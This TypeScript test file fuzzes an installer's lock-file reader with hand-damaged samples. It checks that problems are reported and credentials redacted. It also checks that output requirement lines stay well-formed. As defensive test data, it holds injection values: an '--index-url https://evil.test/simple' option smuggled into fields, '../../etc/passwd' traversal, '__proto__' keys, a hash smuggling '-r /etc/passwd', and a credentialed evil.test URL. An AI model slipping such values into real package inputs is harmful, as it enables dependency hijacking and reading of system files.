/** Lock files that were damaged by hand: each is told with its place, or comes to lines that pip reads as they are meant. */
import { describe, expect, it } from "vitest"
import { redact } from "../../src/domain/Secrets.ts"
import type { Claim } from "../../src/installers/Installer.ts"
import { renderError } from "../../src/services/Report.ts"
import { claimOf, linesOf } from "../support/memory/ClaimedApp.ts"
import { samples, sha } from "../support/memory/LockSamples.ts"

type Damage = readonly [string, (text: string) => string]

/** In TOML `key = "value"`, in JSON `"key": "value"`. */
const valueOf = (key: string, to: string): Damage => [
  `${key} is ${JSON.stringify(to).slice(0, 40)}`,
  (text) =>
    text.replaceAll(
      new RegExp(`((?:^|[\\s{,"])${key}"?\\s*[=:]\\s*)"[^"]*"`, "gm"),
      (_, head: string) => `${head}${JSON.stringify(to)}`
    )
]
const instead = (key: string, to: string): Damage => [
  `${key} is ${to}`,
  (text) =>
    text.replaceAll(new RegExp(`((?:^|[\\s{,"])${key}"?\\s*[=:]\\s*)"[^"]*"`, "gm"), (_, head: string) => head + to)
]
const option = "1.0\n--index-url https://evil.test/simple"

const damages: ReadonlyArray<Damage> = [
  ["nothing in it", () => ""],
  ["cut in the middle", (text) => text.slice(0, text.length / 2)],
  ["a merge left in it", (text) => `<<<<<<< HEAD\n${text}`],
  ["of another system's lines", (text) => text.replaceAll("\n", "\r\n")],
  ["no metadata", (text) => text.replace(/^\[metadata\][\s\S]*/m, "").replace('"_meta"', '"_other"')],
  ["packages that are a number", (text) => text.replace(/\[\[packages?\]\][\s\S]*/, "package = 3\npackages = 3\n")],
  ["lists within lists", (text) => `${"[".repeat(20_000)}${text}`],
  ["a value of lists within lists", (text) => `deep = ${"[".repeat(5000)}${"]".repeat(5000)}\n${text}`],
  ["files that are words", (text) => text.replaceAll(/^(files|wheels) = \[[\s\S]*?^\]/gm, '$1 = "some"')],
  ["each package twice", (text) => text + (/\[\[packages?\]\][\s\S]*?(?=\[\[|$)/.exec(text)?.[0] ?? "")],
  ["no hashes", (text) => text.replaceAll(/(?:, )?hash(?:es)? = (?:"[^"]*"|\{[^}]*\})/g, "")],
  valueOf("name", "../../etc/passwd"),
  valueOf("name", "__proto__"),
  valueOf("name", option),
  valueOf("version", option),
  valueOf("version", "1.0 --hash=sha256:00"),
  valueOf("version", "==../../x"),
  valueOf("hash", `sha256:${sha} -r /etc/passwd`),
  valueOf("url", "file:///etc/passwd"),
  valueOf("url", "https://me:hunter2@evil.test/six-1.0-py3-none-any.whl"),
  valueOf("url", option),
  valueOf("markers?", "python_version >"),
  valueOf("marker", option),
  instead("version", "3"),
  instead("name", "[]"),
  instead("lock-version", "7"),
  instead("lock_version", "{}"),
  instead("url", "{}")
]

const sound =
  /^(?:--[a-z-]+ \S+|(?:[A-Za-z0-9][\w.-]*(?:[=<>!~][^\s;]*| @ [^\s;]+)?|\.{0,2}\/[^\s;]*|\.)(?: ; [^\r\n]+?)?(?: --hash=\w+:[0-9a-f]+)*)$/

const told = (claim: Claim | undefined): string =>
  redact(
    [...(claim?.problems ?? []).map(renderError), ...(claim?.notices ?? []).map(({ text }) => text)].join("\n"),
    []
  )

describe.each(samples)("a damaged $file", ({ beside, file, installer, text }) => {
  it.each(damages)("with %s", async (_, damage) => {
    const claim = await claimOf(installer, { ...beside, [file]: damage(text) }, { PYTHON_GROUPS: "all" })
    for (const { id, message } of claim?.problems ?? [])
      expect([id, message]).toEqual([expect.stringMatching(/^lock-file\//), expect.stringContaining(file)])
    expect(told(claim)).not.toContain("hunter2")
    expect(linesOf(claim).filter((line) => !sound.test(line))).toEqual([])
  })
})
